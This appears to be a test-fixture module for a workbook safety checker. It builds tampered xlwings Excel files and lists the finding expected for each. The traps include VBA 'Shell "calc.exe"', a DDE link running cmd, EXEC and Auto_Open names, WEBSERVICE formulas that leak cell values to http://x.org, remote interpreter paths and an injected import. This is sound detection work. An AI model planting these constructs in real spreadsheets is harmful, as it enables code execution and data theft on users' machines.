@@ -1,0 +1,530 @@
+"""Booby-trapped workbooks, by name: how each is made in the parts of a built one, and its sentence.
+
+What is a path on another machine, a relationship or a part, is as Microsoft's documents and
+ECMA-376 say it (`workbook/check/safety/` names them); what a setting does, as xlwings' VBA has it.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import replace
+from typing import Any
+from xml.sax.saxutils import escape, quoteattr
+
+from in_parts import changed
+
+from workbook.configuration import SHEET
+from workbook.hosts import excel_files
+from workbook.package.cells import Place
+from workbook.package.package import Package
+from workbook.vba import compound
+from workbook.vba.project import Module, Reference, parsed, written
+
+Change = Callable[[Package], Package]
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
+MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+PROJECT = "xl/vbaProject.bin"
+BOOK, INPUTS = "xl/workbook.xml", "xl/worksheets/sheet2.xml"
+#: A cell outside of all that is built.
+FREE: tuple[str, Place] = ("DCF", (3, 90))
+
+
+def put(part: str, old: str, new: str) -> Change:
+    """Replace a text in a part, once."""
+
+    def change(package: Package) -> Package:
+        parts = dict(package.current())
+        assert old.encode() in parts[part], parts[part][-300:]
+        parts[part] = parts[part].replace(old.encode(), new.encode(), 1)
+        return Package(parts)
+
+    return change
+
+
+def relate(source: str, kind: str, target: str, external: bool = False) -> Change:
+    """Give a part a relationship, of a type that is given in full or by its end."""
+
+    def change(package: Package) -> Package:
+        parts = dict(package.current())
+        folder, _, name = source.rpartition("/")
+        part = f"{folder}/_rels/{name}.rels".lstrip("/")
+        mode = ' TargetMode="External"' if external else ""
+        full = kind if "//" in kind else f"{OFFICE}/{kind}"
+        new = f'<Relationship Id="trap" Type="{full}" Target={quoteattr(target)}{mode}/>'
+        head = (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        )
+        held = parts.get(part, f"{head}</Relationships>".encode())
+        parts[part] = held.replace(b"</Relationships>", f"{new}</Relationships>".encode())
+        return Package(parts)
+
+    return change
+
+
+def add(part: str, content: str | bytes = "<x/>", source: str = "", kind: str = "") -> Change:
+    """Add a part, and a relationship that leads to it."""
+
+    def change(package: Package) -> Package:
+        held = content if isinstance(content, bytes) else content.encode()
+        made = Package(package.current() | {part: held})
+        return relate(source, kind, f"/{part}")(made) if kind else made
+
+    return change
+
+
+def both(*changes: Change) -> Change:
+    def change(package: Package) -> Package:
+        for each in changes:
+            package = each(package)
+        return package
+
+    return change
+
+
+def cell(formula: str, at: tuple[str, Place] = FREE) -> Change:
+    return lambda package: changed(package, {at: formula})
+
+
+def setting(name: str, value: str) -> Change:
+    """Add a row to the settings, or change the one that is there."""
+
+    def change(package: Package) -> Package:
+        page = package.sheets[SHEET]
+        rows = {str(page.value((row, 1))): row for row, _ in page.places}
+        row = rows.get(name, len(rows) + 1)
+        return changed(package, {(SHEET, (row, 1)): name, (SHEET, (row, 2)): value})
+
+    return change
+
+
+def name(name: str, text: str, attributes: str = "") -> Change:
+    new = f'<definedName name="{name}" {attributes}>{escape(text)}</definedName></definedNames>'
+    return put(BOOK, "</definedNames>", new)
+
+
+def module(change: Callable[[Any], Any]) -> Change:
+    """Write another VBA project."""
+
+    def trap(package: Package) -> Package:
+        project = change(parsed(package.parts[PROJECT]))
+        return Package(package.current() | {PROJECT: written(project)})
+
+    return trap
+
+
+def sourced(title: str, old: str, new: str) -> Change:
+    """Change the text of a VBA module."""
+
+    def source(project: Any) -> Any:
+        of = [replace(m, source=m.source.replace(old, new)) if m.name == title else m
+              for m in project.modules]  # fmt: skip
+        assert of != [*project.modules]
+        return replace(project, modules=tuple(of))
+
+    return module(source)
+
+
+def streams(change: Callable[[dict[str, bytes]], dict[str, bytes]]) -> Change:
+    def trap(package: Package) -> Package:
+        held = change(compound.read(package.parts[PROJECT]))
+        return Package(package.current() | {PROJECT: compound.written(held)})
+
+    return trap
+
+
+def linked(target: str, kind: str = "externalLinkPath", book: str = "") -> Change:
+    """List another file, or a program."""
+    part = "xl/externalLinks/externalLink1.xml"
+    content = f"<externalLink {MAIN}>{book or '<externalBook/>'}</externalLink>"
+    there = add(part, content, BOOK, "externalLink")
+    return both(there, relate(part, kind, target, external=True)) if target else there
+
+
+def hyperlink(target: str, sheet: str = "xl/worksheets/sheet7.xml") -> Change:
+    link = '<hyperlinks><hyperlink ref="B2" r:id="trap" xmlns:r="' + OFFICE + '"/></hyperlinks>'
+    return both(
+        put(sheet, "<pageMargins", f"{link}<pageMargins"),
+        relate(sheet, "hyperlink", target, external=True),
+    )
+
+
+def library(path: str, number: str = "2DF8D04C-5BFA-101B-BDE5-00AA0044DE52") -> Change:
+    """Add a reference to a type library."""
+    libid = rf"*\G{{{number}}}#2.0#0#{path}#A library".encode()
+    record = (0x0D, len(libid).to_bytes(4, "little") + libid + bytes(6))
+    new = Reference("Lib", ((0x16, b"Lib"), (0x3E, "Lib".encode("utf-16-le")), record))
+    return module(lambda p: replace(p, references=(*p.references, new)))
+
+
+RULE = (
+    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula>'
+    "</cfRule></conditionalFormatting><pageMargins"
+)
+ENTRY = (
+    '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>{}</formula1>'
+    "</dataValidation></dataValidations><pageMargins"
+)
+EXTENSION = '<extLst><ext uri="x" xmlns:xm="z"><xm:f>{}</xm:f></ext></extLst></worksheet>'
+RIBBON = '<customUI xmlns="x" onLoad="Evil.Loaded"><ribbon/></customUI>'
+SHEETS = "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>", BOOK, f"{MICROSOFT}/xlMacrosheet"
+LINE = "Sub Workbook_Open()\r\n"
+
+#: Each trap by its name, how it is made, and what is found.
+TRAPS: dict[str, tuple[Change, list[str]]] = {
+    # Settings of xlwings.
+    "Python on a server": (
+        setting("Interpreter_Win", r"\\server\share\python.exe"),
+        [r"xlwings.conf!B3: Interpreter_Win is '\\\\server\\share\\python.exe', which is on "
+         "another machine"],
+    ),
+    "Python on a server, slashes": (
+        setting("INTERPRETER_WIN", "//server/share/python.exe"),
+        ["xlwings.conf!B3: INTERPRETER_WIN is '//server/share/python.exe', which is on another "
+         "machine"],
+    ),
+    "the older setting": (
+        setting("interpreter", "pythonw"),
+        ["xlwings.conf!B3: interpreter is 'pythonw', which is relative"],
+    ),
+    "Python in a temporary folder": (
+        setting("Interpreter_Win", r"%TEMP%\python.exe"),
+        [r"xlwings.conf!B3: Interpreter_Win is '%TEMP%\\python.exe', which depends on the variable "
+         "%TEMP%"],
+    ),
+    "another module": (
+        setting("UDF Modules", "workbook.udfs;evil"),
+        ["xlwings.conf!B1: Excel imports evil, which is not Offtake's"],
+    ),
+    "the workbook's folder": (
+        setting("ADD_WORKBOOK_TO_PYTHONPATH", "True"),
+        ["xlwings.conf!B2: ADD_WORKBOOK_TO_PYTHONPATH is 'True', and False belongs there"],
+    ),
+    "no word of the workbook's folder": (
+        lambda package: changed(package, {(SHEET, (2, column)): None for column in (1, 2)}),
+        ["xlwings.conf!A1: ADD_WORKBOOK_TO_PYTHONPATH is not set to False, so that Python imports "
+         "modules from the folders of open workbooks"],
+    ),
+    "folders of modules": (
+        setting("PythonPath", r"C:\mine;\\server\share"),
+        [r"xlwings.conf!B3: PythonPath is 'C:\\mine;\\\\server\\share', a setting that Offtake "
+         r"does not write; \\server\share is on another machine"],
+    ),
+    "Conda": (
+        setting("Conda Path", "miniconda"),
+        ["xlwings.conf!B3: Conda Path is 'miniconda', a setting that Offtake does not write; "
+         "miniconda is relative"],
+    ),
+    "code in a license key": (
+        setting("LICENSE_KEY", "';import evil;'"),
+        ["xlwings.conf!B3: LICENSE_KEY is \"';import evil;'\", a setting that Offtake does not "
+         "write"],
+    ),
+    "the server for RunPython": (
+        setting("Use UDF Server", "True"),
+        ["xlwings.conf!B3: Use UDF Server is 'True', a setting that Offtake does not write"],
+    ),
+    "a formula as a setting": (
+        lambda package: changed(package, {(SHEET, (1, 2)): '="ev"&"il"'}),
+        ['xlwings.conf!B1: holds the formula ="ev"&"il", not a setting'],
+    ),
+    "settings switched off, in capitals": (
+        both(setting("Debug UDFs", "True"), put(BOOK, f'name="{SHEET}"', 'name="_XLWINGS.CONF"')),
+        ["xl/vbaProject.bin: has no sheet xlwings.conf next to it, so that xlwings takes its "
+         "settings from the file xlwings.conf in the workbook's folder",
+         "_XLWINGS.CONF!B3: Debug UDFs is 'True', a setting that Offtake does not write"],
+    ),
+    "a sheet of Python": (
+        put(BOOK, 'name="Equity"', 'name="evil.py"'),
+        ["evil.py!A1: the sheet's name ends with .py, so that xlwings may run it as Python code"],
+    ),
+    # The VBA project.
+    "another line of VBA": (
+        sourced("ThisWorkbook", "DescribeFunctions", 'Shell "calc.exe"'),
+        ["xl/vbaProject.bin: the module ThisWorkbook is not as Offtake writes it: line 4 holds "
+         "'Shell \"calc.exe\"', and 'DescribeFunctions' belongs there"],
+    ),
+    "another text in VBA": (
+        sourced("OfftakePython", '"no Python is named"', '"NO Python is named"'),
+        ["xl/vbaProject.bin: the module OfftakePython is not as Offtake writes it: line 93 holds "
+         "'Trial = \"NO Python is named\"', and 'Trial = \"no Python is named\"' belongs there"],
+    ),
+    "a module added": (
+        module(lambda p: replace(p, modules=(*p.modules, Module(
+            "Evil", "standard", f'Attribute VB_Name = "Evil"\r\n{LINE}End Sub\r\n')))),
+        ["xl/vbaProject.bin: has a module Evil, which is not Offtake's: 'Sub Workbook_Open()'"],
+    ),
+    "code in a sheet": (
+        sourced("Sheet1", "VB_Customizable = True\r\n", f"VB_Customizable = True\r\n{LINE}"),
+        ["xl/vbaProject.bin: the module Sheet1 is not as Offtake writes it: line 1 holds "
+         "'Sub Workbook_Open()', and nothing belongs there"],
+    ),
+    "a module removed": (
+        module(lambda p: replace(
+            p, modules=tuple(m for m in p.modules if m.name != "OfftakeHelp"))),
+        ["xl/vbaProject.bin: lacks the module OfftakeHelp"],
+    ),
+    "a reference to a project": (
+        module(lambda p: replace(p, references=(*p.references, Reference(
+            "Evil", ((0x16, b"Evil"), (0x0E, rb"*\C\\server\evil.xlam")))))),
+        ["xl/vbaProject.bin: refers to Evil, to which Offtake's does not"],
+    ),
+    "a library on a server": (
+        library(r"\\server\MSO.DLL"),
+        [r"xl/vbaProject.bin: refers to Lib by a path that is on another machine: "
+         r"\\server\MSO.DLL"],
+    ),
+    "a library for scripts": (
+        library(r"C:\Windows\System32\wshom.ocx", "F935DC20-1CF0-11D0-ADB9-00C04FD58A0B"),
+        ["xl/vbaProject.bin: refers to Lib, to which Offtake's does not"],
+    ),
+    "a form": (
+        streams(lambda held: held | {"Form1/f": b"x", "Form1/o": b"y"}),
+        ["xl/vbaProject.bin: has the form or control Form1, and Offtake's project has none"],
+    ),
+    "another project": (
+        lambda package: Package(package.current() | {
+            PROJECT: excel_files.shipped("quickstart_standalone.xlsm")[PROJECT]}),
+        ["xl/vbaProject.bin: the module ThisWorkbook is not as Offtake writes it: line 1 holds "
+         "nothing, and 'Option Explicit' belongs there",
+         "xl/vbaProject.bin: has a module Module1, which is not Offtake's: 'Sub SampleCall()'",
+         *(f"xl/vbaProject.bin: lacks the module {name}" for name in (
+             "OfftakePython", "OfftakeWindows", "OfftakeRibbon", "OfftakeHelp", "xlwings_udfs")),
+         "xl/vbaProject.bin: refers to MSForms, to which Offtake's does not"],
+    ),
+    "no project": (
+        lambda package: Package(package.current() | {PROJECT: b"MZ"}),
+        ["xl/vbaProject.bin: cannot be compared with Offtake's: the file is not a compound file"],
+    ),
+    "a project in an .xlsx file": (
+        put("[Content_Types].xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+        ["xl/vbaProject.bin: is a project of macros in a file of a kind that has none"],
+    ),
+    "a signature": (
+        add("xl/vbaProjectSignature.bin", b"x", PROJECT, f"{MICROSOFT}/vbaProjectSignature"),
+        ["xl/vbaProjectSignature.bin: is a signature of macros; Offtake signs none"],
+    ),
+    "a sheet of Excel 4": (
+        add(*SHEETS),
+        ["xl/macrosheets/sheet1.xml: is a sheet of Excel 4 macros, which is code"],
+    ),
+    "a sheet of Excel 4 by another name": (
+        add("xl/worksheets/sheet99.xml", *SHEETS[1:]),
+        ["xl/worksheets/sheet99.xml: is a sheet of Excel 4 macros, which is code"],
+    ),
+    "a dialog": (
+        add("xl/dialogsheets/sheet1.xml", "<dialogsheet/>", BOOK, "dialogsheet"),
+        ["xl/dialogsheets/sheet1.xml: is a dialog sheet of Excel 5, whose controls run macros"],
+    ),
+    "an ActiveX control": (
+        add("xl/activeX/activeX1.xml", "<ocx/>", INPUTS, "control"),
+        ["xl/activeX/activeX1.xml: is an ActiveX control, which is a program"],
+    ),
+    "another ribbon": (
+        add("customUI/customUI14.xml", RIBBON, "",
+            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"),
+        ["customUI/customUI14.xml: is a ribbon that is not Offtake's; it calls Evil.Loaded"],
+    ),
+    "the ribbon changed": (
+        put("customUI/customUI.xml", "OfftakeRibbon.OfftakeReconnectPressed", "Evil"),
+        ["customUI/customUI.xml: is a ribbon that is not Offtake's; it calls Evil"],
+    ),
+    "a shape that runs a macro": (
+        put("xl/drawings/drawing1.xml", "<clientData", '<sp macro="[0]!Evil"/><clientData'),
+        ["xl/drawings/drawing1.xml: has a shape or a button that starts the macro [0]!Evil"],
+    ),
+    "a button that runs a macro": (
+        add("xl/drawings/vmlDrawing1.vml", "<xml><br><x:FmlaMacro>[0]!Evil</x:FmlaMacro></xml>",
+            INPUTS, "vmlDrawing"),
+        ["xl/drawings/vmlDrawing1.vml: has a shape or a button that starts the macro [0]!Evil"],
+    ),
+    # What is fetched.
+    "a file": (
+        linked("file:///C:\\mine\\rates.xlsx"),
+        ["xl/externalLinks/externalLink1.xml: links to the file file:///C:\\mine\\rates.xlsx"],
+    ),
+    "the add-in on a server": (
+        linked("file:///\\\\server\\tools\\offtake.xlam"),
+        ["xl/externalLinks/externalLink1.xml: links to offtake.xlam by a path that is on another "
+         "machine: file:///\\\\server\\tools\\offtake.xlam"],
+    ),
+    "DDE": (
+        linked("", book='<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
+        ["xl/externalLinks/externalLink1.xml: starts the program cmd, for /c calc (DDE)"],
+    ),
+    "OLE": (
+        linked("http://x.org/a.doc", "oleObject", '<oleLink progId="Word.Document"/>'),
+        ["xl/externalLinks/externalLink1.xml: refers to http://x.org/a.doc, outside of the file, "
+         "as 'oleObject'",
+         "xl/externalLinks/externalLink1.xml: opens a link of the program Word.Document (OLE)"],
+    ),
+    "a connection": (
+        add("xl/connections.xml", f'<connections {MAIN}><connection id="1" name="Rates"><webPr '
+            'url="http://x.org"/></connection></connections>', BOOK, "connections"),
+        ["xl/connections.xml: has the connection Rates, which fetches data: http://x.org"],
+    ),
+    "a query": (
+        add("xl/queryTables/queryTable1.xml", "<queryTable/>", INPUTS, "queryTable"),
+        ["xl/queryTables/queryTable1.xml: is a query, which fetches data"],
+    ),
+    "Power Query": (
+        add("customXml/item1.xml", '<DataMashup xmlns="x">AAAA</DataMashup>'.encode("utf-16"),
+            BOOK, "customXml"),
+        ["customXml/item1.xml: is a query of Power Query, which fetches data"],
+    ),
+    "a pivot table's data": (
+        add("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition {MAIN}><cacheSource '
+            'type="external" connectionId="1"/></pivotCacheDefinition>', BOOK,
+            "pivotCacheDefinition"),
+        ["xl/pivotCache/pivotCacheDefinition1.xml: is a pivot table's data, which it fetches from "
+         "outside of the file"],
+    ),
+    "RTD": (
+        add("xl/volatileDependencies.xml", "<volTypes/>", BOOK, "volatileDependencies"),
+        ["xl/volatileDependencies.xml: lists values that another program or a server sends (RTD or "
+         "a cube)"],
+    ),
+    "an object": (
+        add("xl/embeddings/oleObject1.bin", b"x", INPUTS, "oleObject"),
+        ["xl/embeddings/oleObject1.bin: is an embedded object, which opens in another program"],
+    ),
+    "an object that nothing shows": (
+        add("xl/embeddings/payload.bin", b"x"),
+        ["xl/embeddings/payload.bin: is a part that neither Offtake nor a spreadsheet's usual "
+         "files have"],
+    ),
+    "an object in a picture": (
+        add("xl/media/image1.png", bytes.fromhex("D0CF11E0A1B11AE1"), INPUTS, "image"),
+        ["xl/media/image1.png: is a compound file, which may hold a program"],
+    ),
+    "a picture on a server": (
+        relate("xl/drawings/drawing1.xml", "image", "file://server/x.png", external=True),
+        ["xl/drawings/drawing1.xml: refers to file://server/x.png, outside of the file, as "
+         "'image'"],
+    ),
+    "a template": (
+        relate(BOOK, "attachedTemplate", "http://x.org/a.dotm", external=True),
+        ["xl/workbook.xml: refers to http://x.org/a.dotm, outside of the file, as "
+         "'attachedTemplate'"],
+    ),
+    "a target outside that does not say so": (
+        relate(BOOK, "oleObject", r"\\server\x"),
+        [r"xl/workbook.xml: refers to \\server\x, outside of the file, as 'oleObject'"],
+    ),
+    "a link to a server": (
+        hyperlink(r"file:///\\server\share\x.exe"),
+        [r"DCF!B2: has a link to file:///\\server\share\x.exe"],
+    ),
+    "a link that runs a program": (
+        hyperlink("ms-msdt:/id"), ["DCF!B2: has a link to ms-msdt:/id"]
+    ),
+    # Formulas.
+    "WEBSERVICE": (
+        cell('=_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'),
+        ['DCF!CL3: calls WEBSERVICE: =_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'],
+    ),
+    "a link in a formula": (
+        cell('=HYPERLINK("http://x.org","#here")'),
+        ['DCF!CL3: has a link that leads to http://x.org: =HYPERLINK("http://x.org","#here")'],
+    ),
+    "a calculated link": (
+        cell('=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'),
+        ['DCF!CL3: has a link that leads to an address that is calculated: '
+         '=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'],
+    ),
+    "a link by way of a cell": (
+        lambda package: changed(package, {
+            FREE: "=hyperlink (CM3)", (FREE[0], (3, 91)): '="http://x.org"'}),
+        ["DCF!CL3: has a link that leads to an address that is calculated: =hyperlink (CM3)"],
+    ),
+    "a file in full": (
+        cell(r"='C:\mine\[rates.xlsx]Sheet1'!A1"),
+        [r"DCF!CL3: refers to the file rates.xlsx: ='C:\mine\[rates.xlsx]Sheet1'!A1"],
+    ),
+    "the add-in on a server, in full": (
+        cell(r"='\\server\offtake.xlam'!DCF_WACC(1)"),
+        [r"DCF!CL3: refers to offtake.xlam on another machine: "
+         r"='\\server\offtake.xlam'!DCF_WACC(1)"],
+    ),
+    "a rule": (
+        put("xl/worksheets/sheet7.xml", "<pageMargins", RULE.format('RTD("x",,"y")')),
+        ['xl/worksheets/sheet7.xml: a rule of the sheet DCF calls RTD: =RTD("x",,"y")'],
+    ),
+    "permitted entries": (
+        put("xl/worksheets/sheet7.xml", "<pageMargins", ENTRY.format("call(1)")),
+        ["xl/worksheets/sheet7.xml: a rule of the sheet DCF calls CALL: =call(1)"],
+    ),
+    "a newer rule": (
+        put("xl/worksheets/sheet7.xml", "</worksheet>", EXTENSION.format("_xlfn.IMAGE(A1)")),
+        ["xl/worksheets/sheet7.xml: a rule of the sheet DCF calls IMAGE: =_xlfn.IMAGE(A1)"],
+    ),
+    "a name": (
+        name("Rate", 'EXEC("calc.exe")'),
+        ['xl/workbook.xml: the name Rate calls EXEC: =EXEC("calc.exe")'],
+    ),
+    "a name with a link": (
+        name("There", 'HYPERLINK("http://x.org/?"&DCF!$A$1)'),
+        ["xl/workbook.xml: the name There has a link that leads to an address that is calculated: "
+         '=HYPERLINK("http://x.org/?"&DCF!$A$1)'],
+    ),
+    "a hidden name that opens": (
+        name("_xlnm.Auto_Open", "Macro1!$A$1", 'hidden="1"'),
+        ["xl/workbook.xml: the hidden name _xlnm.Auto_Open runs a macro when the file is opened or "
+         "closed: =Macro1!$A$1"],
+    ),
+    "a name of a macro": (
+        name("Evil", "#N/A", 'vbProcedure="1"'),
+        ["xl/workbook.xml: the name Evil is that of a macro: =#N/A"],
+    ),
+    # Parts.
+    "a program": (
+        add("xl/payload.exe", b"MZ"),
+        ["xl/payload.exe: is a part that neither Offtake nor a spreadsheet's usual files have"],
+    ),
+    "a relationship of an unknown kind": (
+        add("xl/styles2.xml", "<x/>", BOOK, "http://x.org/evil"),
+        ["xl/styles2.xml: is of the unknown kind 'evil', as xl/_rels/workbook.xml.rels has it"],
+    ),
+    "two kinds of one part": (
+        both(relate(BOOK, f"{MICROSOFT}/vbaProject", "/xl/styles.xml"),
+             relate(BOOK, "styles", "/xl/styles.xml")),
+        ["xl/styles.xml: cannot be compared with Offtake's: the file is not a compound file"],
+    ),
+    "cells with a prefix": (
+        put("xl/worksheets/sheet7.xml", "</sheetData>", '<m:row r="900" xmlns:m="http://schemas.'
+            'openxmlformats.org/spreadsheetml/2006/main"><m:c r="A900"><m:f>WEBSERVICE("x")</m:f>'
+            "</m:c></m:row></sheetData>"),
+        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read, and this check does "
+         "not"],
+    ),
+    "a choice of names": (
+        put(BOOK, "</workbook>", '<mc:AlternateContent xmlns:mc="x"><mc:Choice><definedNames>'
+            '<definedName name="Evil">EXEC("x")</definedName></definedNames></mc:Choice>'
+            "</mc:AlternateContent></workbook>"),
+        ["xl/workbook.xml: has elements that a spreadsheet may read, and this check does not"],
+    ),
+    "a choice of cells": (
+        put("xl/worksheets/sheet7.xml", "<pageMargins", '<mc:AlternateContent xmlns:mc="x">'
+            "<mc:Choice><sheetData/></mc:Choice></mc:AlternateContent><pageMargins"),
+        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read, and this check does "
+         "not"],
+    ),
+    "a base of all links": (
+        put("docProps/app.xml", "</Properties>", "<HyperlinkBase>//server</HyperlinkBase>"
+            "</Properties>"),
+        ["docProps/app.xml: has an address that links begin with: //server"],
+    ),
+    "a picture of an old drawing": (
+        add("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="urn:x"><v:imagedata src="file://server/x"'
+            "/></xml>", INPUTS, "vmlDrawing"),
+        ["xl/drawings/vmlDrawing1.vml: refers to file://server/x, outside of the file"],
+    ),
+    "another workbook": (
+        put("_rels/.rels", 'officeDocument" Target="xl/workbook.xml"',
+            'officeDocument" Target="xl/worksheets/sheet99.xml"'),
+        ["xl/worksheets/sheet99.xml: is what a spreadsheet opens, and this check has read "
+         "xl/workbook.xml"],
+    ),
+}  # fmt: skip
